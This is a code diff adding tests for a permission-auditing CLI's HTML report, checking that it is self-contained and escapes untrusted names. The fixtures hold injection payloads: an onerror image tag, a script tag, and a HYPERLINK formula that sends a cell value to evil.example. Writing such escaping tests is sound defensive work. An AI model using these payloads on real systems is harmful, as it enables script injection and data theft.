@@ -1,6 +1,7 @@
 // `permaudit diff` and `permaudit diff-model` as a user runs them: Northwind MSP's November export
 // against its December one (resources/samples/README.md lists what changed), and Huntress's model
 // before and after June 2022.
+import fs from 'node:fs';
 import path from 'node:path';
 import Papa from 'papaparse';
 import { prepareCli, root, runCli } from '../support/cli';
@@ -11,6 +12,25 @@ let dir: string;
 let db: string;
 
 const run = (...args: string[]) => runCli(dir, ...args);
+
+/** What a reader of an HTML page sees: its text without the markup, entities read, spaces collapsed. */
+const textOf = (page: string) =>
+  page
+    .replace(/<style>[\s\S]*?<\/style>/, '')
+    .replace(/<[^>]*>/g, ' ')
+    .replace(/&(lt|gt|quot|#39|amp);/g, (_, e: string) => ({ lt: '<', gt: '>', quot: '"', '#39': "'", amp: '&' })[e]!)
+    .replace(/\s+/g, ' ');
+
+/** A one-file report: nothing runs and nothing is fetched, whatever the data. */
+function expectSelfContained(page: string) {
+  expect(page.startsWith('<!doctype html>')).toBe(true);
+  const tags = page.match(/<[^>]*>/g) ?? [];
+  expect(
+    tags.filter((tag) => /^<\/?(script|link|img|iframe|a|object|embed|form|base)\b/i.test(tag) || /\s(src|href|on\w+)=/i.test(tag)),
+  ).toEqual([]);
+  expect(page).not.toMatch(/url\(|@import/i);
+  expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
+}
 
 beforeAll(() => {
   dir = prepareCli('permaudit-diff-');
@@ -92,6 +112,97 @@ describe('permaudit diff', () => {
       rows.find((r) => r.kind === 'person' && r.change === 'changed' && r.email === 'daniel.okonkwo@northwind-msp.example')?.detail,
     ).toBe('mfa: disabled → enabled');
     expect(rows.filter((r) => Object.values(r).some((v) => /^[=+\-@\t\r]/.test(v)))).toEqual([]);
+  });
+
+  it('--format html: one self-contained page with where it comes from, the summary, privileged changes first, then each person', () => {
+    const { code, stdout, stderr } = run('diff', '1', '2', '--db', db, '--format', 'html');
+    expect(stderr).toBe('');
+    expect(code).toBe(0);
+    expectSelfContained(stdout);
+    const json = JSON.parse(run('diff', '1', '2', '--db', db, '--json').stdout);
+    const text = textOf(stdout);
+    expect(text).toContain('Changes in Huntress: snapshot #1 → #2');
+    expect(text).toContain(`${json.summary[0].toUpperCase()}${json.summary.slice(1)}.`);
+    // Provenance: both snapshots, their models and files with SHA-256, the filters, the tool.
+    for (const { snapshot, sourceFiles } of json.provenance.snapshots) {
+      expect(text).toContain(`#${snapshot.id} “${snapshot.name}”`);
+      expect(text).toContain(`Huntress, version ${snapshot.modelVersion} (built in)`);
+      expect(text).toContain(`${sourceFiles[0].name} (${sourceFiles[0].rows} rows) SHA-256 ${sourceFiles[0].sha256}`);
+    }
+    expect(text).toMatch(
+      /Filters: none \(every change\) · Generated \d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC by Permission Auditor \d+\.\d+\.\d+/,
+    );
+
+    // The privileged changes come first, each with its person; then everyone's, by person.
+    const privileged = text.slice(text.indexOf('Privileged changes'), text.indexOf('Access changes by person'));
+    const firstPrivileged = json.access.find((c: { privileged: boolean }) => c.privileged);
+    expect(privileged).toContain(`${firstPrivileged.email}`);
+    expect(privileged.match(/ privileged /g)).toHaveLength(json.access.filter((c: { privileged: boolean }) => c.privileged).length);
+    const byPerson = text.slice(text.indexOf('Access changes by person'), text.indexOf(' People '));
+    // Priya gains through one assignment: it is said once, above her gains.
+    const priya = json.access.filter((c: { email: string }) => c.email === 'priya.raman@coastal-it.example');
+    expect(byPerson).toContain(
+      `~ priya.raman@coastal-it.example (Priya Raman) gains ${priya.length} all at Northwind MSP/Harbor Law Group · via Admin · organization (row huntress-msp-december.csv:${priya[0].via.sourceLine}) + ${priya[0].label}`,
+    );
+    expect(byPerson).toContain('− marcus.webb@northwind-msp.example (Marcus Webb) removed loses');
+    // Every change is there once by person, and the privileged ones once more at the top.
+    const lines = stdout.match(/<li class="(gained|lost)">/g) ?? [];
+    expect(lines).toHaveLength(json.access.length + json.access.filter((c: { privileged: boolean }) => c.privileged).length);
+
+    // People and assignments.
+    const rest = text.slice(text.indexOf(' People '));
+    expect(rest).toContain('+ samuel.ortiz@northwind-msp.example added');
+    expect(rest).toContain('− marcus.webb@northwind-msp.example removed');
+    expect(rest).toContain('~ daniel.okonkwo@northwind-msp.example (Daniel Okonkwo) MFA disabled → enabled');
+    expect(rest).toMatch(/\+ priya\.raman@coastal-it\.example \(Priya Raman\) Admin · organization Northwind MSP\/Harbor Law Group/);
+  });
+
+  it('--format html with --privileged shows the privileged changes only, and says so', () => {
+    const page = run('diff', '1', '2', '--db', db, '--format', 'html', '--privileged').stdout;
+    const only = JSON.parse(run('diff', '1', '2', '--db', db, '--json', '--privileged').stdout);
+    const text = textOf(page);
+    expect(text).toContain('Filters: privileged permissions only');
+    expect(text).toContain('Access changes, privileged permissions only, by person');
+    expect(text).not.toContain('Privileged changes');
+    expect(page.match(/<li class="(gained|lost)">/g)).toHaveLength(only.access.length);
+    expect(page.match(/<span class="tag priv">privileged<\/span>/g)).toHaveLength(only.access.length);
+  });
+
+  it("--format html names a user's model file and its SHA-256 in the provenance", () => {
+    const acme = path.join(dir, 'acme.db');
+    const model = path.join(root, 'resources/models/acme-edr.json');
+    for (const extra of [[], ['--allow-duplicate']]) {
+      expect(run('import', path.join(samples, 'acme-edr.csv'), '--model', model, '--db', acme, ...extra).code).toBe(0);
+    }
+    const [, after] = JSON.parse(run('diff', '1', '2', '--db', acme, '--json').stdout).provenance.snapshots;
+    const text = textOf(run('diff', '1', '2', '--db', acme, '--format', 'html').stdout);
+    expect(text).toContain(`Acme EDR, version 2026-06 (your model file acme-edr.json) SHA-256 ${after.snapshot.model.sha256}`);
+  });
+
+  it('--format html writes what the data says as text: a name that is markup or a formula stays inert', () => {
+    const header = 'email,name,role,account,organization';
+    const before = path.join(dir, 'crafted-before.csv');
+    const after = path.join(dir, 'crafted-after.csv');
+    fs.writeFileSync(before, `${header}\nann@x.example,Ann,User,Acme <b>MSP</b>,Org & Co\n`);
+    fs.writeFileSync(
+      after,
+      `${header}\nann@x.example,Ann,Admin,Acme <b>MSP</b>,Org & Co\n` +
+        `eve@x.example,<img src=x onerror=alert(1)>,Admin,Acme <b>MSP</b>,\n` +
+        `mal@x.example,"=HYPERLINK(""https://evil.example/?q=""&A1,""Click"")",User,Acme <b>MSP</b>,"<script>alert('x')</script>"\n`,
+    );
+    const crafted = path.join(dir, 'crafted.db');
+    for (const file of [before, after]) expect(run('import', file, '--platform', 'huntress', '--db', crafted).code).toBe(0);
+    const { code, stdout } = run('diff', '1', '2', '--db', crafted, '--format', 'html');
+    expect(code).toBe(0);
+    expectSelfContained(stdout);
+    expect(stdout).toContain('&lt;img src=x onerror=alert(1)&gt;');
+    // (A path writes a `/` inside a name as `\/`.)
+    expect(stdout).toContain('&lt;script&gt;alert(&#39;x&#39;)&lt;\\/script&gt;');
+    expect(stdout).toContain('Acme &lt;b&gt;MSP&lt;\\/b&gt;/Org &amp; Co');
+    const text = textOf(stdout);
+    expect(text).toContain('+ eve@x.example (<img src=x onerror=alert(1)>) new person');
+    expect(text).toContain('+ mal@x.example (=HYPERLINK("https://evil.example/?q="&A1,"Click")) new person');
+    expect(text).toContain("at Acme <b>MSP<\\/b>/<script>alert('x')<\\/script>");
   });
 
   it('refuses snapshots of two platforms (exit 1) and an id that is not one (exit 2)', () => {
